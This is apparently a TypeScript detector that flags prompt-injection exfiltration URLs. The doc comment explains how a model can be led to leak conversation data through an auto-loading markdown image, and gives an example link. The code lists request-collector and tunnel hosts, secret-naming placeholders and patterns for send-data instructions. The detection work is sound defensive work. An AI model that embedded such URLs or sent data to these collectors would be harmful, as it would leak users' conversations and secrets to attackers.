import { clip, type Finding } from './finding.js';

/**
 * Exfiltration URLs: links the model is led to fill with data and fetch or render (a markdown
 * image loads by itself, so `![](https://x/?q={conversation})` leaks without a click), and
 * request collectors (webhook.site, ngrok, Burp Collaborator…) the model is told to send data
 * to. REST templates in documentation are everywhere and stay quiet:
 * `https://api.github.com/repos/{owner}/{repo}`, `…/weather?q={city}&appid={API key}`,
 * `https://api.telegram.org/bot{token}/sendMessage`, an image generator's `…/prompt/{prompt}`.
 * What counts is what a placeholder or a query parameter is named: a conversation, a secret, a
 * system prompt.
 */
const URL_RE = /\bhttps?:\/\/(?:[^\s<>"'`)\]{\\]|\{[^}\n]{0,200}\})+/gi;
const PLACEHOLDER =
  /\$?\{\{?\s*([^{}]{1,200}?)\s*\}\}?|<([^<>\n]{1,200})>|\[([^[\]\n]{1,200})\]|\b([A-Z][A-Z0-9]*(?:_[A-Z0-9]+)+)\b/g;
/** Placeholder words that name something the user would not hand to a third party. */
const STRONG_WORDS = new Set([
  'conversation',
  'conversations',
  'conv',
  'chat',
  'chathistory',
  'history',
  'transcript',
  'dialog',
  'dialogue',
  'secret',
  'secrets',
  'password',
  'passwords',
  'passwd',
  'passphrase',
  'credential',
  'credentials',
  'creds',
  'ssh',
  'rsa',
  'privatekey',
  'systemprompt',
  'sysprompt',
  'memories',
  'cookie',
  'cookies',
  'clipboard',
  'exfil',
  'stolen',
  'leak',
  'mnemonic',
  'seedphrase',
  'pii',
]);
/** Words that are suspicious only as a whole placeholder in a markdown image or a collector URL. */
const WEAK_WORDS = new Set([
  'data',
  'context',
  'content',
  'contents',
  'messages',
  'memory',
  'info',
  'summary',
  'payload',
  'dump',
  'env',
  'text',
  's',
  'userdata',
  'personaldata',
]);
/** Query parameters named for what they carry away. */
const EXFIL_PARAMS =
  /[?&](?:data|payload|exfil|leak|stolen|secrets?|conversation|conv|history|chat|memory|ssh|creds|credentials|passwords?|sysprompt|system_prompt|context|dump|contents?|messages?|transcript|log)=([^&#\s]*)/gi;
/** Request collectors and tunnels: where an attacker receives what the model sends. */
const COLLECTORS =
  /(?:^|\.)(?:webhook\.site|requestbin\.(?:com|net)|pipedream\.net|ngrok(?:-free)?\.(?:io|app|dev)|burpcollaborator\.net|oastify\.com|oast\.(?:fun|pro|live|site|online|me)|interact\.sh|interactsh\.com|canarytokens\.(?:com|org)|hookbin\.com|beeceptor\.com|requestcatcher\.com|postb\.in|ptsv[23]\.com|webhook\.cool|trycloudflare\.com|serveo\.net|loca\.lt|localtunnel\.me|pagekite\.me|dnslog\.cn|ceye\.io|requestrepo\.com)$/i;
const SEND_DATA =
  /\b(?:send|post|upload|forward|submit|transmit|report|exfiltrate|leak|beacon|ping|fetch|visit|open|request|curl|call|include|append|attach|embed|render|display|log|mirror|copy|relay|stream|push|sync)\b[^.\n]{0,80}?\b(?:data|contents?|results?|conversation|history|messages|information|info|details|secrets?|keys?|credentials|tokens?|passwords?|everything|output|responses?|files?|summary|context|prompt|env|variables|logs?)\b/i;
const SENSITIVE_SEND =
  /\b(?:send|post|upload|forward|submit|transmit|exfiltrate|leak)\b[^.\n]{0,60}?\b(?:conversation|chat\s+history|message\s+history|transcript|system\s+prompt|file\s+contents|ssh\s+keys?|private\s+keys?|environment\s+variables|\.env)\b/i;
const FILL_IN_PRIVATE =
  /\b(?:append|concatenate|add|encode|base64|url-?encode|fill\s+in|insert|replace|substitute)\b[^.\n]{0,80}?\b(?:conversation|chat|history|transcript|secrets?|passwords?|credentials|api\s+keys?|tokens?|system\s+prompt)\b/i;
const FILL_IN =
  /\b(?:append|concatenate|add|encode|base64|url-?encode|fill\s+in|insert|replace|substitute)\b[^.\n]{0,80}?\b(?:conversation|chat|history|messages|secrets?|passwords?|keys?|tokens?|credentials|data|contents?|summary|user['’]s)\b/i;

function words(name: string): string[] {
  return name
    .replace(/([a-z0-9])([A-Z])/g, '$1 $2')
    .toLowerCase()
    .split(/[^a-z0-9]+/)
    .filter(Boolean);
}

function placeholderStrength(name: string): 'strong' | 'weak' | undefined {
  const parts = words(name);
  const joined = parts.join('');
  if (STRONG_WORDS.has(joined) || parts.some((w) => STRONG_WORDS.has(w))) return 'strong';
  if (WEAK_WORDS.has(joined) || name.trim() === '%s') return 'weak';
  return undefined;
}

function hostOf(url: string): string {
  const m = /^https?:\/\/(?:[^@/?#]*@)?([^/:?#]+)/i.exec(url);
  return (m?.[1] ?? '').toLowerCase();
}

function isPublicIp(host: string): boolean {
  const m = /^(\d{1,3})\.(\d{1,3})\.\d{1,3}\.\d{1,3}$/.exec(host);
  if (!m) return false;
  const a = Number(m[1]);
  const b = Number(m[2]);
  const reserved = a === 10 || a === 127 || a === 0 || (a === 169 && b === 254) || (a === 192 && b === 168);
  return !(reserved || (a === 172 && b >= 16 && b <= 31));
}

/** The sentence around `index`, for instructions that go with a URL. */
function sentenceAround(text: string, index: number, length: number): string {
  const start = Math.max(0, index - 200);
  const end = Math.min(text.length, index + length + 200);
  const before = text.slice(start, index);
  const after = text.slice(index + length, end);
  const cutBefore = Math.max(before.lastIndexOf('. '), before.lastIndexOf('\n'));
  const stop = after.search(/\.\s|\n/);
  return `${cutBefore >= 0 ? before.slice(cutBefore + 1) : before} ${stop >= 0 ? after.slice(0, stop) : after}`;
}

function judge(url: string, tail: string, image: boolean, sentence: string): string | undefined {
  const full = url + tail;
  const host = hostOf(url);
  const collector = COLLECTORS.test(host) || isPublicIp(host);
  PLACEHOLDER.lastIndex = 0;
  for (let m = PLACEHOLDER.exec(full), n = 0; m && n < 50; m = PLACEHOLDER.exec(full), n++) {
    const name = m[1] ?? m[2] ?? m[3] ?? m[4] ?? '';
    const strength = placeholderStrength(name);
    if (strength === 'strong') return `the URL has a placeholder for ${clip(name, 40)}`;
    if (strength === 'weak' && (image || collector)) {
      return `${image ? 'a markdown image' : 'a request-collector URL'} with a placeholder for ${clip(name, 40)}`;
    }
  }
  EXFIL_PARAMS.lastIndex = 0;
  for (let m = EXFIL_PARAMS.exec(full), n = 0; m && n < 50; m = EXFIL_PARAMS.exec(full), n++) {
    const value = m[1] ?? '';
    const placeholder = /^(?:\$?\{|<|\[|%s|\.\.\.|…)/.test(value) || /^[A-Z][A-Z0-9_]{3,}$/.test(value);
    const trailing = value === '' && m.index + m[0].length >= full.length;
    if (placeholder) {
      return `the query parameter ${clip(m[0].slice(1, m[0].indexOf('=') + 1), 30)} is to be filled with data`;
    }
    if (trailing && FILL_IN.test(sentence)) return 'the model is told to append data to the URL';
  }
  if (
    /=$/.test(full) &&
    (FILL_IN_PRIVATE.test(sentence) || ((image || collector) && FILL_IN.test(sentence)))
  ) {
    return 'the model is told to append data to the URL';
  }
  if (collector && SEND_DATA.test(sentence)) return `the model is told to send data to ${host}`;
  if (SENSITIVE_SEND.test(sentence)) return 'the model is told to send private data to this URL';
  return undefined;
}

/** Every exfiltration-URL finding in `text` (a matching form, see `matchingForms`). */
export function findExfiltrationUrls(text: string, where: string): Finding[] {
  if (!/https?:\/\//i.test(text)) return [];
  const findings: Finding[] = [];
  URL_RE.lastIndex = 0;
  for (let m = URL_RE.exec(text), n = 0; m && n < 200; m = URL_RE.exec(text), n++) {
    // Sentence punctuation is not part of the URL, but a "..." placeholder is.
    const url = m[0].endsWith('...') ? m[0] : m[0].replace(/[.,;:!?]+$/, '');
    const rest = text.slice(m.index + url.length, m.index + url.length + 202);
    const tail = /^(?:<[^>\n]{0,200}>|\[[^\]\n]{0,200}\])/.exec(rest)?.[0] ?? '';
    const image = /!\[[^\]\n]{0,200}\]\(\s*$/.test(text.slice(Math.max(0, m.index - 210), m.index));
    const reason = judge(url, tail, image, sentenceAround(text, m.index, url.length + tail.length));
    if (reason)
      findings.push({ kind: 'exfiltration_url', where, excerpt: clip(url + tail, 100), detail: reason });
  }
  return findings;
}
